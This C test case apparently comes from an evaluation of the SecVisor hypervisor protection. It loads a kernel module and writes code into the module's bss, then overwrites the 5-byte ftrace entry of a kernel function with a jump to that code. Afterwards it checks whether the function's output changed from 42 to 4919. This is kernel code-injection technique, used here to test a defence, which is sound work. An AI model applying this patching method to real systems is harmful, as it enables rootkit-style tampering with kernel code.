// Row 12. The 5 bytes at a function's beginning, where ftrace calls its trampolines, made a jump to code in a module's bss.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <stdlib.h>
#include <string.h>

ATTACK("ftrace-site")
{
	char text[32];

	insert_module("/modules/target.ko");

	read_file("/sys/module/target/parameters/answer", text, sizeof(text));
	if (strcmp(text, "42\n"))
		failed("the module is not as it was: %s", text);
	u64 at = symbol("target_answer");

	if (kread64(at) << 32 == 0xfa1e0ff3ull << 32)
		at += 4;
	u64 code = operate(VULNERABLE_BSS, 0, 0, 0);
	s32 relative = code - (at + 5);
	u8 jump[5] = { 0xe9 };

	kwrite(code, CODE, CODE_LENGTH);
	make_executable(code);
	memcpy(jump + 1, &relative, 4);
	kwrite(at, jump, 5);
	read_file("/sys/module/target/parameters/answer", text, sizeof(text));
	if (!strcmp(text, "4919\n"))
		succeeded("an ftrace site made to jump to data: it reads 4919 instead of 42");
	if (!strcmp(text, "42\n"))
		restored("an ftrace site made to jump to data: it still reads 42");
	failed("it reads %s", text);
}
